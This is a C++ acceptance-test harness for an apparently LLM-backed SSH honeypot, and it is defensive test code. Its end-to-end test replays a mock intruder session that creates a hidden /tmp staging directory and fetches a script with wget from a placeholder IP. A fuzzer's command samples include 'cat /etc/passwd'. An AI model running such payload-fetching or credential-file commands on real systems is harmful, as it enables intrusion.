// Runs every primary acceptance criterion and prints one PASS/FAIL/SKIP line
// per criterion. Exit status is non-zero if any criterion failed.
//
//   acceptance            run everything
//   acceptance <name>...  run the named criteria only
//
// DECOYSH_UPDATE_GOLDEN=1 rewrites the end-to-end transcript instead of
// comparing against it.

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cmath>
#include <fstream>
#include <functional>
#include <iostream>
#include <random>
#include <regex>
#include <set>
#include <sstream>
#include <thread>

#include "decoysh/eval/harness.hpp"
#include "decoysh/metrics/hallucination.hpp"
#include "decoysh/metrics/report.hpp"
#include "decoysh/metrics/similarity.hpp"
#include "decoysh/session/session.hpp"
#include "gateway_fixture.hpp"
#include "oracles.hpp"
#include "ssh_client.hpp"
#include "stub_server.hpp"
#include "vfs_model.hpp"

namespace fs = std::filesystem;
namespace dm = decoysh::metrics;
namespace ev = decoysh::eval;
using decoysh::logstore::EventKind;
using decoysh::session::Tier;
using nlohmann::json;
using Clock = std::chrono::steady_clock;

namespace {

const fs::path kData = DECOYSH_DATA_DIR;
const fs::path kGolden = DECOYSH_GOLDEN_DIR;

enum class Status { pass, fail, skip };

struct Outcome {
  Status status = Status::pass;
  std::string detail;
};

/// Collects the first few mismatches of a criterion; any mismatch fails it.
class Tally {
 public:
  void check(bool ok, const std::string& what) {
    ++checks_;
    if (ok) return;
    if (failures_++ < 5) notes_ += (notes_.empty() ? "" : "; ") + what;
  }
  template <typename Fn>
  void check_lazy(bool ok, Fn&& describe) {
    if (ok) {
      ++checks_;
    } else {
      check(false, describe());
    }
  }
  Outcome outcome(const std::string& ok_detail) const {
    if (failures_ == 0) return {Status::pass, ok_detail + " (" + std::to_string(checks_) + " checks)"};
    return {Status::fail, std::to_string(failures_) + " of " + std::to_string(checks_) + " checks failed: " + notes_};
  }

 private:
  std::size_t checks_ = 0;
  std::size_t failures_ = 0;
  std::string notes_;
};

std::string slurp(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

std::string fmt(double v, int prec = 6) {
  std::ostringstream ss;
  ss.precision(prec);
  ss << std::fixed << v;
  return ss.str();
}

double ms_between(Clock::time_point a, Clock::time_point b) {
  return std::chrono::duration<double, std::milli>(b - a).count();
}

double median(std::vector<double> v) {
  std::sort(v.begin(), v.end());
  const std::size_t n = v.size();
  return n % 2 ? v[n / 2] : (v[n / 2 - 1] + v[n / 2]) / 2;
}

bool wait_until(const std::function<bool()>& pred, std::chrono::milliseconds limit) {
  const auto end = Clock::now() + limit;
  while (Clock::now() < end) {
    if (pred()) return true;
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  return pred();
}

std::shared_ptr<decoysh::session::EngineContext> base_context() {
  auto ctx = std::make_shared<decoysh::session::EngineContext>();
  ctx->cache = std::make_shared<const decoysh::shell::DictionaryCache>(decoysh::shell::default_cache());
  ctx->seed = std::make_shared<const decoysh::shell::VfsNode>(decoysh::shell::default_seed_image());
  ctx->prompt_template =
      std::make_shared<const decoysh::llm::PromptTemplate>(decoysh::llm::default_prompt_template());
  return ctx;
}

std::string strip_newlines(std::string s) {
  while (!s.empty() && s.back() == '\n') s.pop_back();
  return s;
}

// Exact match per its definition: trailing whitespace dropped on every line,
// then trailing newlines dropped.
bool exact_oracle(const std::string& e, const std::string& a) {
  auto norm = [](const std::string& s) {
    std::string out;
    std::istringstream in(s);
    std::vector<std::string> lines;
    for (std::string line; std::getline(in, line);) {
      while (!line.empty() && std::isspace(static_cast<unsigned char>(line.back()))) line.pop_back();
      lines.push_back(line);
    }
    for (std::size_t i = 0; i < lines.size(); ++i) out += (i ? "\n" : "") + lines[i];
    while (!out.empty() && out.back() == '\n') out.pop_back();
    return out;
  };
  return norm(e) == norm(a);
}

// ---- criteria

Outcome metric_oracles() {
  const auto t0 = Clock::now();
  Tally t;
  oracle::PairCorpus corpus(20240611);
  for (int i = 0; i < 200; ++i) {
    const auto [a, b] = corpus.next();
    auto near = [&](const char* name, double got, double want, double tol) {
      t.check_lazy(std::fabs(got - want) <= tol, [&] {
        return std::string(name) + " pair " + std::to_string(i) + ": " + fmt(got, 12) + " vs " + fmt(want, 12);
      });
    };
    t.check(dm::exact_match(a, b) == exact_oracle(a, b), "exact pair " + std::to_string(i));
    near("token_accuracy", dm::token_accuracy(a, b), oracle::token_accuracy(a, b), 1e-9);
    near("cosine_tfidf", dm::cosine_tfidf(a, b), oracle::cosine_tfidf(a, b), 1e-9);
    near("jaro_winkler", dm::jaro_winkler(a, b), oracle::jaro_winkler(a, b), 1e-9);
    near("levenshtein_ratio", dm::levenshtein_ratio(a, b), oracle::levenshtein_ratio(a, b), 1e-9);
    near("sequence_ratio", dm::sequence_ratio(a, b), oracle::sequence_ratio(a, b), 1e-9);
    near("bleu4", dm::bleu4(a, b), oracle::bleu4(a, b), 1e-6);
  }
  const double jw = dm::jaro_winkler("MARTHA", "MARHTA");
  const double lev = dm::levenshtein_ratio("kitten", "sitting");
  const double seq = dm::sequence_ratio("abcd", "bcde");
  t.check(std::fabs(jw - 0.9611) <= 1e-4, "JW(MARTHA,MARHTA)=" + fmt(jw));
  t.check(std::fabs(lev - 0.5714) <= 1e-4, "lev(kitten,sitting)=" + fmt(lev));
  t.check(seq == 0.75, "seq(abcd,bcde)=" + fmt(seq, 17));
  const double secs = ms_between(t0, Clock::now()) / 1000;
  t.check(secs < 10, "runtime " + fmt(secs, 2) + " s");
  return t.outcome("200 pairs, JW=" + fmt(jw, 4) + " lev=" + fmt(lev, 4) + " seq=" + fmt(seq, 2) + ", " +
                   fmt(secs, 2) + " s");
}

Outcome success_law() {
  Tally t;
  std::mt19937_64 rng(404);
  std::uniform_real_distribution<double> unit(0.0, 1.0);
  // Values at and next to the threshold show up often so strictness is tested.
  const std::array<double, 4> edges = {0.4, std::nextafter(0.4, 1.0), std::nextafter(0.4, 0.0), 0.0};
  auto draw = [&] { return rng() % 4 == 0 ? edges[rng() % edges.size()] : unit(rng); };
  for (int i = 0; i < 10000; ++i) {
    const double c = draw();
    const double j = draw();
    t.check_lazy(dm::success_flag(c, j) == (c > 0.4 || j > 0.4),
                 [&] { return "cos=" + fmt(c, 17) + " jw=" + fmt(j, 17); });
  }
  // The same law holds for reports produced by score().
  oracle::PairCorpus corpus(77);
  for (int i = 0; i < 2000; ++i) {
    const auto [a, b] = corpus.next();
    const auto r = dm::score("cmd", a, b);
    t.check(r.success == (r.cosine_tfidf > 0.4 || r.jaro_winkler > 0.4), "score() pair " + std::to_string(i));
  }
  return t.outcome("10^4 flag pairs + 2000 scored pairs");
}

Outcome vfs_consistency() {
  Tally t;
  auto ctx = base_context();
  ctx->use_cache = false;  // everything here is a builtin; a model call would be a bug
  std::shared_ptr<const decoysh::session::EngineContext> shared = ctx;
  std::size_t divergences = 0, steps_run = 0;
  for (std::uint64_t seed = 1; seed <= 1000; ++seed) {
    decoysh::session::Session s(shared, "root", {"127.0.0.1", 0}, false);
    s.handle_line("mkdir -p /tmp/t");
    oracle::PathModel model("/tmp/t");
    std::string cwd = "/root";
    std::mt19937_64 rng(seed * 7919);
    bool diverged = false;
    auto expect = [&](bool ok, const std::string& what) {
      if (!ok && !diverged) {
        diverged = true;
        t.check(false, "seed " + std::to_string(seed) + ": " + what);
      }
    };
    for (auto step : oracle::random_steps(seed, "/tmp/t", 40)) {
      // Sometimes cd first, and then address the target relative to it.
      if (rng() % 4 == 0) {
        const std::string dir = step.kind == "ls" ? step.path : oracle::PathModel::parent(step.path);
        const auto r = s.handle_line("cd " + dir);
        const bool ok = model.is_dir(dir);
        expect((r->exit_code == 0) == ok, "cd " + dir + " exit " + std::to_string(r->exit_code));
        if (ok) cwd = dir;
      }
      std::string line = step.line;
      if (model.is_dir(cwd) && step.kind != "ls" && oracle::PathModel::parent(step.path) == cwd) {
        line = line.substr(0, line.rfind(' ') + 1) + step.path.substr(cwd.size() + 1);
      } else if (step.kind == "ls" && step.path == cwd && model.is_dir(cwd)) {
        line = "ls -1";
      }
      const auto r = s.handle_line(line);
      ++steps_run;
      if (r->tier != Tier::builtin) expect(false, line + " routed to " + std::string(to_string(r->tier)));
      int want = 0;
      if (step.kind == "mkdir") want = model.mkdir(step.path);
      if (step.kind == "touch") want = model.touch(step.path);
      if (step.kind == "rm") want = model.rm(step.path, false);
      if (step.kind == "rm-r") want = model.rm(step.path, true);
      if (step.kind == "cat") want = model.cat(step.path);
      if (step.kind == "ls") {
        if (model.is_dir(step.path)) {
          expect(r->output == model.ls(step.path), line + " listed [" + r->output + "]");
        } else if (model.exists(step.path)) {
          expect(r->output == step.path + "\n" || r->output == step.path.substr(step.path.rfind('/') + 1) + "\n",
                 line + " on a file printed [" + r->output + "]");
        } else {
          want = 2;
        }
      }
      expect((r->exit_code != 0) == (want != 0),
             line + " exit " + std::to_string(r->exit_code) + ", model " + std::to_string(want));
    }
    // Final visibility: every path the model holds is listable from its parent.
    for (const auto& [path, is_dir] : model.paths()) {
      if (path == model.base()) continue;
      const auto r = s.handle_line((is_dir ? "cd " : "cat ") + path);
      expect(r->exit_code == 0, "final " + path + " not visible");
    }
    if (diverged) ++divergences;
    t.check(!diverged, "");
  }
  if (divergences) return t.outcome("");
  return t.outcome("1000 sequences, " + std::to_string(steps_run) + " steps, 0 divergences");
}

Outcome latency_separation() {
  const auto t0 = Clock::now();
  stub::Server srv;
  srv.http().Post("/api/generate", [](const httplib::Request&, httplib::Response& res) {
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
    res.set_content(json{{"model", "stub"}, {"response", "ok\n"}, {"done", true}}.dump(), "application/json");
  });
  srv.start();
  decoysh::llm::BackendSpec spec;
  spec.endpoint = srv.url();
  spec.model_id = "stub";
  spec.timeout_s = 5;
  auto ctx = base_context();
  ctx->backend = std::make_shared<decoysh::llm::HttpBackend>(spec);
  std::shared_ptr<const decoysh::session::EngineContext> shared = ctx;
  decoysh::session::Session s(shared, "root", {"127.0.0.1", 0}, false);

  Tally t;
  const std::vector<std::string> cached = {"uname -a", "free -h", "df -h", "nproc", "lscpu", "ps aux"};
  std::vector<double> cache_ms, llm_ms;
  for (int i = 0; i < 60; ++i) {
    const std::string& cmd = cached[i % cached.size()];
    const auto a = Clock::now();
    const auto r = s.handle_line(cmd);
    cache_ms.push_back(ms_between(a, Clock::now()));
    t.check(r->tier == Tier::cache, cmd + " was not a cache hit");
  }
  for (int i = 0; i < 12; ++i) {
    const std::string cmd = "probe-tool-" + std::to_string(i) + " --verbose";
    const auto a = Clock::now();
    const auto r = s.handle_line(cmd);
    llm_ms.push_back(ms_between(a, Clock::now()));
    t.check(r->tier == Tier::llm, cmd + " tier " + std::string(to_string(r->tier)));
  }
  const double cm = median(cache_ms);
  const double lm = median(llm_ms);
  const double lmin = *std::min_element(llm_ms.begin(), llm_ms.end());
  const double lmax = *std::max_element(llm_ms.begin(), llm_ms.end());
  t.check(cm < 5, "cache median " + fmt(cm, 3) + " ms");
  t.check(lmin >= 200 && lmax <= 250, "llm range " + fmt(lmin, 1) + "-" + fmt(lmax, 1) + " ms");
  const double secs = ms_between(t0, Clock::now()) / 1000;
  t.check(secs < 30, "runtime " + fmt(secs, 1) + " s");
  return t.outcome("cache median " + fmt(cm, 3) + " ms, llm median " + fmt(lm, 1) + " ms (range " + fmt(lmin, 1) +
                   "-" + fmt(lmax, 1) + ")");
}

const std::vector<std::string> kE2eCommands = {
    "whoami",
    "uname -a",
    "pwd",
    "mkdir /tmp/.stage",
    "cd /tmp/.stage",
    "touch run.sh",
    "ls -la",
    "cat /etc/hostname",
    "nproc",
    "free -h",
    "wget http://198.51.100.7/x.sh",
    "systemctl status sshd",
    "lsof -i",
    "history",
    "exit",
};

Outcome end_to_end() {
  auto backend = std::make_shared<fixture::CannedBackend>(std::map<std::string, std::string>{
      {"wget http://198.51.100.7/x.sh",
       "--2024-03-02 10:14:07--  http://198.51.100.7/x.sh\nConnecting to 198.51.100.7:80... failed: Connection "
       "timed out.\n"},
      {"systemctl status sshd",
       "```\n\xE2\x97\x8F ssh.service - OpenBSD Secure Shell server\n     Loaded: loaded "
       "(/lib/systemd/system/ssh.service; enabled)\n     Active: active (running)\n```\n"},
  });
  fixture::Honeypot hp(fixture::test_config(), backend, [](decoysh::session::EngineContext& c) {
    c.vfs_clock = [] { return std::int64_t{1709374447}; };
  });
  fixture::ScratchDir tmp("e2e");
  auto args = sshc::base_args(hp.port());
  args.insert(args.begin() + 1, "-tt");
  args.push_back("root@127.0.0.1");
  std::string input;
  for (const auto& c : kE2eCommands) input += c + "\n";
  const auto res = sshc::run(args, sshc::askpass_script(tmp.path(), {"toor"}), input);

  Tally t;
  t.check(!res.timed_out, "client timed out");
  t.check(res.exit_code == 0, "client exit " + std::to_string(res.exit_code) + ": " + res.err);
  const fs::path golden = kGolden / "e2e_transcript.txt";
  if (const char* upd = std::getenv("DECOYSH_UPDATE_GOLDEN"); upd && std::string(upd) == "1") {
    std::ofstream(golden, std::ios::binary) << res.out;
  }
  const std::string want = slurp(golden);
  if (res.out != want) {
    std::size_t at = 0;
    while (at < res.out.size() && at < want.size() && res.out[at] == want[at]) ++at;
    t.check(false, "transcript differs from golden at byte " + std::to_string(at) + " (got " +
                       std::to_string(res.out.size()) + " bytes, golden " + std::to_string(want.size()) + ")");
  } else {
    t.check(true, "");
  }

  // Reopen the database file itself so the count is what survived to disk.
  hp.gateway->stop();
  const auto on_disk = decoysh::logstore::parse_database(slurp(hp.store->database_path()));
  std::vector<std::string> commands;
  std::map<std::int64_t, int> responses;
  for (const auto& r : on_disk) {
    if (r.kind == EventKind::command) commands.push_back(r.payload["command"]);
    if (r.kind == EventKind::response) ++responses[r.payload["seq"].get<std::int64_t>()];
  }
  t.check(commands == kE2eCommands, std::to_string(commands.size()) + " command records");
  bool matched = responses.size() == kE2eCommands.size();
  for (std::size_t i = 1; i <= kE2eCommands.size(); ++i) matched = matched && responses[i] == 1;
  t.check(matched, std::to_string(responses.size()) + " distinct response seqs");
  return t.outcome("transcript matches golden, " + std::to_string(commands.size()) + " command + " +
                   std::to_string(responses.size()) + " response records on disk");
}

Outcome pipeline_reproducibility() {
  Tally t;
  fixture::ScratchDir dir("repro");
  const auto cases = ev::load_cases(kData / "corpus" / "starter_commands.csv");
  const std::string model = "replay:" + (kData / "corpus" / "starter_replay.json").string();
  ev::RunOptions opts;
  opts.deterministic = true;
  std::vector<ev::ModelRun> first;
  for (const char* out : {"a", "b"}) {
    auto backend = ev::make_backend(model, {});
    auto run = ev::run_model(*backend, cases, opts);
    const ev::RunMetadata meta{"llm_only", "1970-01-01T00:00:00Z", "starter_commands.csv", cases.size(), true};
    for (const auto& m : ev::write_outputs({run}, meta, dir.path() / out)) t.check(m.ok, m.path.string());
    if (first.empty()) first.push_back(std::move(run));
  }
  for (const char* f : {"combined_results.json", "model_comparison.csv"}) {
    const std::string a = slurp(dir.path() / "a" / f);
    t.check(!a.empty() && a == slurp(dir.path() / "b" / f), std::string(f) + " differs between runs");
  }

  // Recompute every mean from the oracle metrics over (expected, actual).
  const auto& results = first.front().results;
  const auto s = ev::summarize(results, first.front().timeout_s);
  double exact = 0, tok = 0, cos = 0, jw = 0, lev = 0, seq = 0, bleu = 0, succ = 0, hall = 0;
  for (const auto& r : results) {
    const std::string e = strip_newlines(r.test_case.expected_output);
    const std::string a = strip_newlines(r.actual);
    const double c = oracle::cosine_tfidf(e, a);
    const double j = oracle::jaro_winkler(e, a);
    exact += exact_oracle(e, a);
    tok += oracle::token_accuracy(e, a);
    cos += c;
    jw += j;
    lev += oracle::levenshtein_ratio(e, a);
    seq += oracle::sequence_ratio(e, a);
    bleu += oracle::bleu4(e, a);
    succ += (c > 0.4 || j > 0.4);
    hall += r.report.hallucination;
  }
  const double n = static_cast<double>(results.size());
  auto near = [&](const char* name, double got, double want) {
    t.check(std::fabs(got - want) <= 1e-9, std::string(name) + " " + fmt(got, 12) + " vs " + fmt(want, 12));
  };
  near("exact_match_rate", s.exact_match_rate, exact / n);
  near("token_accuracy", s.token_accuracy, tok / n);
  near("cosine_tfidf", s.cosine_tfidf, cos / n);
  near("jaro_winkler", s.jaro_winkler, jw / n);
  near("levenshtein_ratio", s.levenshtein_ratio, lev / n);
  near("sequence_ratio", s.sequence_ratio, seq / n);
  near("success_rate", s.success_rate, succ / n);
  near("hallucination_rate", s.hallucination_rate, hall / n);
  // BLEU-4 oracle agreement is only promised to 1e-6 per pair.
  t.check(std::fabs(s.bleu4 - bleu / n) <= 1e-6, "bleu4 " + fmt(s.bleu4, 12) + " vs " + fmt(bleu / n, 12));
  return t.outcome(std::to_string(results.size()) + " cases, byte-identical outputs, success_rate " +
                   fmt(s.success_rate, 4));
}

Outcome scaled_replication() {
  const std::string endpoint = "http://127.0.0.1:11434";
  httplib::Client probe(endpoint);
  probe.set_connection_timeout(2);
  probe.set_read_timeout(5);
  auto tags = probe.Get("/api/tags");
  if (!tags || tags->status != 200) return {Status::skip, "no local model server at " + endpoint};
  std::string model_id;
  if (const char* m = std::getenv("DECOYSH_LOCAL_MODEL")) model_id = m;
  if (model_id.empty()) {
    const auto body = json::parse(tags->body, nullptr, false);
    if (body.is_object() && body.contains("models") && !body["models"].empty()) {
      model_id = body["models"][0].value("name", "");
    }
  }
  if (model_id.empty()) return {Status::skip, "local server has no models"};

  Tally t;
  fixture::ScratchDir dir("scaled");
  decoysh::llm::BackendSpec base;
  base.endpoint = endpoint;
  base.timeout_s = 120;
  auto backend = ev::make_backend("local:" + model_id, base);
  const auto cases = ev::load_cases(kData / "corpus" / "starter_commands.csv");
  const auto run = ev::run_model(*backend, cases, {});
  if (run.skipped) return {Status::skip, model_id + " unavailable: " + run.reason};
  t.check(!run.aborted, "run aborted: " + run.reason);
  const auto manifest = ev::write_outputs({run}, {"llm_only", "", "starter_commands.csv", cases.size(), false},
                                          dir.path());
  for (const auto& m : manifest) t.check(m.ok, m.path.string() + ": " + m.error);
  for (const char* f : {"raw_outputs", "metrics", "combined_results.json", "model_comparison.csv"}) {
    t.check(fs::exists(dir.path() / f), std::string(f) + " missing");
  }
  if (run.results.empty()) return t.outcome("");
  const auto s = ev::summarize(run.results, run.timeout_s);
  t.check(s.success_rate > 0 && s.success_rate <= 1, "success_rate " + fmt(s.success_rate, 4));
  return t.outcome(model_id + ": success_rate " + fmt(s.success_rate, 4) + ", mean latency " +
                   fmt(s.mean_latency_ms, 0) + " ms");
}

Outcome sanitizer_agreement() {
  Tally t;
  std::mt19937_64 rng(500);
  auto pick = [&](const auto& v) -> const auto& { return v[rng() % v.size()]; };
  const std::vector<std::string> commands = {"ls -la",        "cat /etc/passwd", "uname -a", "df -h",
                                             "netstat -tulpn", "echo hello world", "printf 'ls -la'",
                                             "id",            "w",               "crontab -l"};
  const std::vector<std::string> clean = {"total 8\ndrwx------ 2 root root 4096 Mar  2 10:00 .\n",
                                          "root:x:0:0:root:/root:/bin/bash\n", "Linux svr04 5.15.0 x86_64\n",
                                          "uid=0(root) gid=0(root) groups=0(root)\n", "", "\n\n",
                                          "no crontab for root\n"};
  const std::vector<std::string> role = {"As an AI",       "as an ai", "language model", "I cannot",
                                         "i CANNOT",       "I'm sorry", "I\xE2\x80\x99m sorry",
                                         "LANGUAGE MODEL"};
  auto random_case = [&](std::string& cmd, std::string& raw) -> int {
    cmd = pick(commands);
    raw = pick(clean);
    switch (rng() % 6) {
      case 0:  // role break placed anywhere
        raw.insert(rng() % (raw.size() + 1), " " + pick(role) + " ");
        return 1;
      case 1:  // the command echoed back, prompt style or bare
        raw = (rng() % 2 ? "$ " : "") + cmd + "\n" + raw;
        return cmd.rfind("echo", 0) == 0 || cmd.rfind("printf", 0) == 0 ? -1 : 2;
      case 2:  // a proper fence pair
        raw = "```" + std::string(rng() % 2 ? "bash" : "") + "\n" + raw + "```\n";
        return 0;
      case 3:  // a second fence survives stripping
        raw = "```\n" + raw + "```\ntext\n```\nmore\n```";
        return 3;
      default:
        return 0;
    }
  };
  std::size_t flagged = 0;
  for (int i = 0; i < 500; ++i) {
    std::string cmd, raw;
    const int kind = random_case(cmd, raw);
    const auto s = decoysh::session::sanitize_output(cmd, raw);
    const bool metric = dm::hallucination_flag(cmd, raw);
    flagged += s.flagged;
    t.check_lazy(s.flagged == metric, [&] { return "disagree on " + cmd + " -> [" + raw + "]"; });
    if (kind > 0) t.check_lazy(s.flagged, [&] { return "missed " + cmd + " -> [" + raw + "]"; });
    if (kind == 0) t.check_lazy(!s.flagged, [&] { return "false alarm " + cmd + " -> [" + raw + "]"; });
  }
  std::ifstream fixtures(kGolden / "role_break_outputs.txt");
  std::size_t listed = 0;
  for (std::string line; std::getline(fixtures, line);) {
    if (line.empty() || line[0] == '#') continue;
    ++listed;
    const auto s = decoysh::session::sanitize_output("ls", line);
    t.check(s.flagged && dm::hallucination_flag("ls", line), "fixture not flagged: " + line);
    t.check(s.clean == decoysh::session::fallback_error("ls"), "fixture text leaked: " + line);
  }
  t.check(listed >= 10, "fixture list has only " + std::to_string(listed) + " entries");
  return t.outcome("500 fuzz cases (" + std::to_string(flagged) + " flagged), " + std::to_string(listed) +
                   " role-break fixtures, 0 false negatives");
}

int raw_connect(std::uint16_t port) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) {
    ::close(fd);
    return -1;
  }
  timeval tv{3, 0};
  ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  return fd;
}

Outcome robustness() {
  constexpr int kClients = 50;
  auto cfg = fixture::test_config();
  cfg.max_connections_per_ip = kClients;
  // `sleep` is not a builtin: the model stub answers it slowly, which keeps
  // every session open long enough for the cap to be full.
  auto backend = std::make_shared<fixture::CannedBackend>(std::map<std::string, std::string>{{"sleep 4", ""}},
                                                          std::chrono::milliseconds(3000));
  fixture::Honeypot hp(cfg, backend);
  fixture::ScratchDir tmp("robust");
  Tally t;

  std::vector<sshc::Result> results(kClients);
  std::vector<std::thread> threads;
  for (int i = 0; i < kClients; ++i) {
    threads.emplace_back([&, i] {
      auto args = sshc::base_args(hp.port());
      args.push_back("root@127.0.0.1");
      const std::string mine = "own_" + std::to_string(i);
      results[i] = sshc::run(args, sshc::askpass_script(tmp.path() / std::to_string(i), {"toor"}),
                             "mkdir /tmp/" + mine + "\nsleep 4\nls /tmp\nexit\n", std::chrono::seconds(90));
    });
  }
  // With every slot held, one more connection from the same address is refused.
  const bool full = wait_until([&] { return hp.gateway->active_connections() == kClients; }, std::chrono::seconds(30));
  t.check(full, "only " + std::to_string(hp.gateway->active_connections()) + " connections became active");
  std::string refused_reply = "unset";
  if (full) {
    const int fd = raw_connect(hp.port());
    char buf[256];
    const ssize_t n = fd >= 0 ? ::recv(fd, buf, sizeof buf, 0) : -1;
    refused_reply = n > 0 ? std::string(buf, static_cast<std::size_t>(n)) : "";
    if (fd >= 0) ::close(fd);
    t.check(refused_reply.empty(), "over-cap connection got [" + refused_reply + "]");
  }
  for (auto& th : threads) th.join();
  wait_until([&] { return hp.gateway->active_connections() == 0; }, std::chrono::seconds(10));

  const std::regex own(R"(own_(\d+))");
  for (int i = 0; i < kClients; ++i) {
    const auto& r = results[i];
    t.check(!r.timed_out && r.exit_code == 0, "client " + std::to_string(i) + " exit " + std::to_string(r.exit_code));
    std::set<std::string> seen;
    for (std::sregex_iterator it(r.out.begin(), r.out.end(), own), end; it != end; ++it) seen.insert((*it)[1]);
    t.check(seen == std::set<std::string>{std::to_string(i)},
            "client " + std::to_string(i) + " saw " + std::to_string(seen.size()) + " own_* entries");
  }

  hp.gateway->stop();
  const auto on_disk = decoysh::logstore::parse_database(slurp(hp.store->database_path()));
  std::map<EventKind, std::size_t> kinds;
  std::size_t auth_ok = 0, capped = 0;
  for (const auto& r : on_disk) {
    ++kinds[r.kind];
    if (r.kind != EventKind::auth) continue;
    auth_ok += r.payload["success"].get<bool>();
    capped += r.payload["reason"] == decoysh::ssh::kReasonIpLimit;
  }
  auto expect_count = [&](const char* what, std::size_t got, std::size_t want) {
    t.check(got == want, std::string(what) + " " + std::to_string(got) + " != " + std::to_string(want));
  };
  expect_count("database vs store", on_disk.size(), hp.store->record_count());
  expect_count("command records", kinds[EventKind::command], 4 * kClients);
  expect_count("response records", kinds[EventKind::response], 4 * kClients);
  expect_count("session_open records", kinds[EventKind::session_open], kClients);
  expect_count("session_close records", kinds[EventKind::session_close], kClients);
  expect_count("successful logins", auth_ok, kClients);
  t.check(capped >= 1, "no per-ip refusal recorded");
  const auto stats = hp.gateway->stats();
  expect_count("gateway accepted", stats.accepted, kClients + stats.refused_ip_limit);
  expect_count("gateway refusals", stats.refused_ip_limit, capped);
  return t.outcome(std::to_string(kClients) + " clients, " + std::to_string(capped) + " refused at cap, " +
                   std::to_string(on_disk.size()) + " records reconciled, no cross-session entries");
}

}  // namespace

int main(int argc, char** argv) {
  const std::vector<std::pair<std::string, std::function<Outcome()>>> criteria = {
      {"metric_oracles", metric_oracles},
      {"success_law", success_law},
      {"vfs_consistency", vfs_consistency},
      {"latency_separation", latency_separation},
      {"end_to_end_session", end_to_end},
      {"pipeline_reproducibility", pipeline_reproducibility},
      {"scaled_replication", scaled_replication},
      {"sanitizer_agreement", sanitizer_agreement},
      {"robustness", robustness},
  };
  const std::set<std::string> only(argv + 1, argv + argc);
  int failed = 0;
  for (const auto& [name, run] : criteria) {
    if (!only.empty() && !only.count(name)) continue;
    const auto t0 = Clock::now();
    Outcome o;
    try {
      o = run();
    } catch (const std::exception& e) {
      o = {Status::fail, std::string("exception: ") + e.what()};
    }
    const char* tag = o.status == Status::pass ? "PASS" : o.status == Status::fail ? "FAIL" : "SKIP";
    failed += o.status == Status::fail;
    std::cout << tag << " " << name << ": " << o.detail << " [" << fmt(ms_between(t0, Clock::now()) / 1000, 2)
              << " s]" << std::endl;
  }
  return failed ? 1 : 0;
}
